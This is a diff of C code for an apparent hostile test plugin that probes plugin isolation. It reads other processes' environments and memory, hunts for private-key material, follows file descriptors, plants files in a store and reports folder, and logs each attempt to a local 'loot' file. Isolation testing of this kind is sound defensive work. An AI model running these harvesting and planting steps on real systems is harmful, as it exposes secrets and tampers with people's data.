@@ -13,6 +13,20 @@
 #include <unistd.h>
 
 static FILE *g_loot;
+static char g_key[4096], g_store[4096], g_reports[4096];
+
+/* $ATTACK_LOOT/plugin.conf: three lines, the key file, the store, the reports folder (a file, as
+ * an environment variable would put the key's path into every environment block). */
+static void read_config(const char *loot) {
+  char path[4096];
+  snprintf(path, sizeof path, "%s/plugin.conf", loot);
+  FILE *f = fopen(path, "r");
+  if (!f) return;
+  char *dst[3] = {g_key, g_store, g_reports};
+  for (int i = 0; i < 3 && fgets(dst[i], 4096, f); ++i)
+    dst[i][strcspn(dst[i], "\n")] = 0;
+  fclose(f);
+}
 
 static void note(const char *what, const char *path, int ok, const char *detail) {
   fprintf(g_loot, "%s %s: %s %s\n", what, path, ok ? "GOT" : "refused", detail);
@@ -26,7 +40,8 @@ static void read_path(const char *what, const char *path) {
   close(fd);
   if (n < 0) { note(what, path, 0, strerror(errno)); return; }
   buf[n] = 0;
-  int key = memmem(buf, (size_t)n, "PRIVATE KEY", 11) != NULL || memmem(buf, (size_t)n, "PREREG_KEY", 10) != NULL;
+  int key = memmem(buf, (size_t)n, "PRIVATE KEY", 11) != NULL ||
+            (g_key[0] && memmem(buf, (size_t)n, g_key, strlen(g_key)) != NULL);
   char detail[64];
   snprintf(detail, sizeof detail, "%zd bytes%s", n, key ? " KEY-MATERIAL" : "");
   note(what, path, n > 0, detail);
@@ -62,6 +77,7 @@ static void try_write(const char *dir, const char *name) {
 static void hunt(void) {
   const char *loot = getenv("ATTACK_LOOT");
   char path[4096];
+  read_config(loot ? loot : "/tmp");
   snprintf(path, sizeof path, "%s/plugin.txt", loot ? loot : "/tmp");
   g_loot = fopen(path, "a");
   if (!g_loot) return;
@@ -71,11 +87,11 @@ static void hunt(void) {
   snprintf(path, sizeof path, "/proc/%d/environ", (int)ppid);
   read_path("parent-environ", path);
   read_mem(ppid);
-  snprintf(path, sizeof path, "/proc/%d/fd", (int)ppid);
-  DIR *d = opendir(path);
-  note("parent-fds", path, d != NULL, d ? "listed" : strerror(errno));
-  if (d) closedir(d);
-  d = opendir("/proc");
+  char target[256];
+  snprintf(path, sizeof path, "/proc/%d/fd/0", (int)ppid);
+  ssize_t got = readlink(path, target, sizeof target - 1);
+  note("parent-fd", path, got > 0, got > 0 ? "followed" : strerror(errno));
+  DIR *d = opendir("/proc");
   for (struct dirent *e; d && (e = readdir(d));) {
     if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == (int)getpid()) continue;
     snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
@@ -83,17 +99,15 @@ static void hunt(void) {
     read_mem((pid_t)atoi(e->d_name));
   }
   if (d) closedir(d);
-  const char *key = getenv("ATTACK_KEY");
-  if (key) read_path("key", key);
+  if (g_key[0]) read_path("key", g_key);
   for (int fd = 3; fd < 64; ++fd) {
     char link[64], target[256];
     snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
     ssize_t n = readlink(link, target, sizeof target - 1);
     if (n > 0) { target[n] = 0; note("fd", link, 1, target); }
   }
-  const char *store = getenv("ATTACK_STORE"), *reports = getenv("ATTACK_REPORTS");
-  if (store) { try_write(store, "ledger.jsonl"); try_write(store, "planted"); }
-  if (reports) try_write(reports, "planted");
+  if (g_store[0]) { try_write(g_store, "ledger.jsonl"); try_write(g_store, "planted"); }
+  if (g_reports[0]) try_write(g_reports, "planted");
   fclose(g_loot);
 }
 
